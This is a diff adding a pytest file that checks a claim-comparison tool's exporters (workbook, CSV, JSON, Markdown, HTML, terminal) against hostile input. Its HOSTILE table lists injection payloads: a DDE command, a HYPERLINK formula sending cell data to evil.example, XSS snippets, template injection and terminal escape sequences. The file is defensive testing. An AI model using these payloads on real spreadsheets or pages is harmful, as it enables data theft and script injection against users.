@@ -1,0 +1,278 @@
+"""Hostile text: what stands in an article goes through every format and back, and steers nothing on its way."""
+
+import csv
+import io
+import json
+import re
+import zipfile
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import mistune
+import openpyxl
+import pytest
+from made_results import flood, match, results_of, verdict
+
+from kitlib.cells import CELL_LIMIT, CUT_MARK, one_line, show_controls, unguard_formula
+from kitlib.export import FORMATS, export
+from kitlib.model import Article, Claim, Quantity, Relation
+from kitlib.report import write_report
+from kitlib.results import Results
+from kitlib.terminal import show_table
+
+HOSTILE = {
+    "formula": "=1+1",
+    "command": "=cmd|' /C calc'!A0",
+    "link formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+    "newline": "\n=1+1",
+    "full width": "\uff1d1+1",
+    "apostrophe": "'=1+1",
+    "array": "{=1+1}",
+    "address": "http://evil.example/ and www.evil.example",
+    "script": "<script>alert(1)</script>",
+    "image": '<img src=x onerror="alert(1)">',
+    "attribute": "\" onmouseover='alert(1)' x=\"",
+    "entity": "&lt;b&gt; &amp; &#60;",
+    "closing": "</td></table></body></html>",
+    "style": "</style><style>*{display:none}",
+    "comment": "<!-- -- > ]]> -->",
+    "template": "{{ 7*7 }}{% raw %}${7*7}",
+    "pipe": "a|b||c\\|d",
+    "newlines": "one\ntwo\r\nthree\u2028four",
+    "markdown": "# *x* _y_ `z` [a](http://evil.example) ![b](x) ~~c~~ $d$",
+    "javascript link": "[click](javascript:alert(1))",
+    "mention": "@someone #12 :tada: someone@evil.example",
+    "rule": "---",
+    "escape": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
+    "nul": "a\x00b\x08c\x0bd\x0ce\x7f",
+    "override": "\u202egnp.exe\u202c \u2067x\u2069 \u200fy",
+    "surrogate": "a\ud800b\udfffc",
+    "noncharacter": "a\ufffeb\uffff",
+    "escaped in a workbook": "_x0041_ _x000D_",
+    "quotes": '"a","b";\'c\'',
+    "percent": "%s %(x)s {0} {x.__class__}",
+    "mathematics": r"$\frac{1}{2$ \input{x} & % _ ^ ~",
+    "combining": "e\u0301\u0301\u0301\u0301 👩\u200d👩\u200d👧",
+    "date": "1/3",
+    "long": "long " + "x" * 40_000,
+    "long and wide": "wide " + "😀" * 20_000,
+    "long and marked": "<b>|" * 10_000,
+}
+OUTLET = "=A1|<b>[x]*:?/\\\u202e'\x1b[31m@"
+ROWS = tuple(HOSTILE)
+
+
+def make_results() -> Results:
+    """Return results whose every text is hostile: each string begins a claim of both articles."""
+    sentences = [f"{text} 12 {text}" for text in HOSTILE.values()]
+    text = "\n\n".join(sentences)
+    articles = tuple(
+        Article(text=text, outlet=outlet, title=HOSTILE["script"], url="javascript:alert(1)", author=HOSTILE["image"])
+        for outlet in (OUTLET, f"{OUTLET}2")
+    )
+    claims = tuple(tuple(_claims(sentences)) for _ in articles)
+    relations: tuple[Relation, ...] = ("differ", "compatible", "agree", "incomparable")
+    matches = [
+        match(
+            articles,
+            (0, claim, claim.quantities[0] if figures else None),
+            (1, claim, claim.quantities[0] if figures else None),
+            verdict(relations[at % 4] if figures else "agree", "hedge", text),
+            topic=text[:60],
+        )
+        for at, (claim, text) in enumerate(zip(claims[0], HOSTILE.values(), strict=True))
+        for figures in (True, False)
+    ]
+    return results_of(articles, claims, matches)
+
+
+def _claims(sentences: list[str]) -> Iterator[Claim]:
+    start = 0
+    for index, (sentence, text) in enumerate(zip(sentences, HOSTILE.values(), strict=True)):
+        place = start + len(text) + 1
+        figure = Quantity(start=place, end=place + 2, text="12", form="number", value=12, counted=text[:60])
+        yield Claim(
+            start=start, end=start + len(sentence), text=sentence, index=index, zone="body", quantities=(figure,)
+        )
+        start += len(sentence) + 2
+
+
+@pytest.fixture(scope="module")
+def results() -> Results:
+    return make_results()
+
+
+@pytest.fixture(scope="module")
+def folder(results: Results, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("hostile")
+    export(results, folder)
+    return folder
+
+
+def sentence(name: str) -> str:
+    return f"{HOSTILE[name]} 12 {HOSTILE[name]}"
+
+
+# The workbook
+
+
+@pytest.fixture(scope="module")
+def book(folder: Path) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(folder / "comparison.xlsx")
+
+
+def test_no_cell_is_a_formula_or_a_link(folder: Path) -> None:
+    with zipfile.ZipFile(folder / "comparison.xlsx") as parts:
+        names = parts.namelist()
+        sheets = "".join(parts.read(name).decode() for name in names if name.startswith("xl/worksheets/sheet"))
+    found = (re.findall("<f>|<hyperlink", sheets), [name for name in names if "rels" in name and "sheet" in name])
+    assert found == ([], [])
+
+
+@pytest.mark.parametrize("name", ROWS)
+def test_workbook_and_back(name: str, book: openpyxl.Workbook) -> None:
+    wanted = show_controls(sentence(name))
+    told = {str(cell.value) for cell in book["Claims"]["D"]}
+    # A workbook writes _x0041_ for A, so that these characters themselves are written with one escape more.
+    written = re.sub("(_x[0-9a-fA-F]{4}_)", r"_x005F\1", wanted)
+    cut = any(value.endswith(CUT_MARK) and wanted.startswith(value.removesuffix(CUT_MARK)) for value in told)
+    assert cut if len(wanted.encode("utf-16-le")) > 2 * CELL_LIMIT else written in told
+
+
+def test_what_was_cut_is_told(book: openpyxl.Workbook) -> None:
+    told = [str(row[1].value) for row in book["Run"].iter_rows() if row[0].value == "cut in this file"]
+    assert {line.split(",")[0] for line in told} >= {"Claims", "All matches", "Cleaning"}
+
+
+# CSV, JSON
+
+
+@pytest.fixture(scope="module")
+def rows(folder: Path) -> list[dict[str, str]]:
+    text = (folder / "comparison.csv").read_bytes().decode("utf-8")
+    csv.field_size_limit(10_000_000)
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("name", ROWS)
+def test_csv_and_back(name: str, rows: list[dict[str, str]]) -> None:
+    assert show_controls(sentence(name)) in {unguard_formula(row["claim_a"]) for row in rows}
+
+
+def test_no_field_of_csv_begins_a_formula(rows: list[dict[str, str]]) -> None:
+    fields = [field for row in rows for field in row.values() if len(field) > 1]
+    assert not [field[:20] for field in fields if field[0] in "=+@\t\r\n\uff1d" or re.match(r"-[^\d]", field)]
+
+
+@pytest.mark.parametrize("name", ROWS)
+@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
+def test_json_and_back_to_the_character(suffix: str, name: str, folder: Path) -> None:
+    text = (folder / f"comparison{suffix}").read_bytes().decode("utf-8")
+    matches = json.loads(text)["matches"] if suffix == ".json" else map(json.loads, text.split("\n")[:-1])
+    assert sentence(name) in {row["claim_a"] for row in matches}
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".json", ".jsonl", ".md", ".html"])
+def test_no_file_holds_what_steers_a_terminal_or_turns_text(suffix: str, folder: Path) -> None:
+    text = (folder / f"comparison{suffix}").read_bytes().decode("utf-8")
+    assert not re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200f\u202a-\u202e\u2066-\u2069\ufffe\uffff]", text)
+
+
+# Pages
+
+
+class Texts(HTMLParser):
+    """The tags of a page, what they lead to, and the text inside the tags given."""
+
+    def __init__(self, source: str, inside: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.links: list[str] = []
+        self.found: list[str] = []
+        self._inside = inside
+        self._depth = 0
+        self.feed(source)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
+        if tag == "br" and self._depth:
+            self.found[-1] += "\n"
+        if tag == self._inside:
+            self.found.append("")
+            self._depth += 1
+
+    def handle_endtag(self, tag: str) -> None:
+        self._depth -= tag == self._inside
+
+    def handle_data(self, data: str) -> None:
+        if self._depth:
+            self.found[-1] += data
+
+
+@pytest.fixture(scope="module")
+def page(folder: Path) -> Texts:
+    return Texts((folder / "comparison.html").read_text(encoding="utf-8"), "blockquote")
+
+
+@pytest.fixture(scope="module")
+def plain_page() -> Texts:
+    return Texts(write_report(flood()).decode("utf-8"), "blockquote")
+
+
+@pytest.fixture(scope="module")
+def markdown(folder: Path) -> Texts:
+    show = mistune.create_markdown(escape=False, plugins=["table", "url", "strikethrough", "math", "footnotes"])
+    page = show((folder / "comparison.md").read_text(encoding="utf-8"))
+    assert isinstance(page, str)
+    return Texts(page, "td")
+
+
+@pytest.mark.parametrize("name", ROWS)
+def test_page_and_back(name: str, page: Texts) -> None:
+    assert show_controls(sentence(name)) in page.found
+
+
+@pytest.mark.parametrize("name", ROWS)
+def test_markdown_and_back(name: str, markdown: Texts) -> None:
+    wanted = one_line(sentence(name))
+    assert any(wanted in one_line(cell) for cell in markdown.found)
+
+
+def test_no_text_becomes_a_tag_of_the_page(page: Texts, plain_page: Texts) -> None:
+    assert page.tags - plain_page.tags == set()
+
+
+def test_no_text_becomes_an_attribute_of_the_page(page: Texts, plain_page: Texts) -> None:
+    assert page.attributes - plain_page.attributes == set()
+
+
+def test_no_text_becomes_a_link_of_the_page(page: Texts) -> None:
+    assert not [link for link in page.links if not re.match(r"#[a-z0-9-]+$|data:image/png;base64,[\w+/=]+$", link)]
+
+
+def test_no_text_becomes_markup_in_markdown(markdown: Texts) -> None:
+    own = {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "strong", "br", "b"}
+    assert (markdown.tags - own, markdown.links) == (set(), [])
+
+
+# The terminal and the picture
+
+
+@pytest.mark.parametrize("width", [20, 80, 120, 500])
+def test_the_terminal_table_steers_nothing_and_fits(width: int, results: Results) -> None:
+    lines = show_table(results, width).split("\n")
+    fits = max(map(len, lines)) <= min(max(width, 40), 120)
+    assert (fits, [line for line in lines if show_controls(line) != line]) == (True, [])
+
+
+def test_every_format_is_written(folder: Path) -> None:
+    assert all((folder / f"comparison{suffix}").stat().st_size for suffix in FORMATS)
